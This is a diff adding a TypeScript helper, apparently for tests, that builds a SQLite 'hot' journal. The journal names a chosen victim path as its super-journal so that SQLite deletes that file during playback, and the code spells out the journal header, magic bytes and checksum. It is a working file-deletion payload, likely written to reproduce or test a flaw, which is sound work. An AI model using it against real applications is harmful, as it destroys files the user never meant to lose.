@@ -96,3 +96,24 @@ export function collector() {
     },
   };
 }
+
+/**
+ * A journal SQLite takes for hot (to be played back) that names `victim` as its
+ * super-journal: the file SQLite deletes once it has played the journal back.
+ */
+export function hotJournal(victim: string, pageSize = 4096): Uint8Array {
+  const name = new TextEncoder().encode(victim);
+  const head = new Uint8Array(512);
+  head[0] = 1; // not zero: SQLite reads the journal
+  const tail = new Uint8Array(4 + name.length + 16);
+  const view = new DataView(tail.buffer);
+  view.setUint32(0, Math.floor(0x40000000 / pageSize) + 1); // the lock page, as SQLite writes
+  tail.set(name, 4);
+  view.setUint32(4 + name.length, name.length);
+  view.setUint32(8 + name.length, name.reduce((sum, byte) => sum + byte, 0));
+  tail.set([0xd9, 0xd5, 0x05, 0xf9, 0x20, 0xa1, 0x63, 0xd7], 12 + name.length);
+  const journal = new Uint8Array(head.length + tail.length);
+  journal.set(head);
+  journal.set(tail, head.length);
+  return journal;
+}
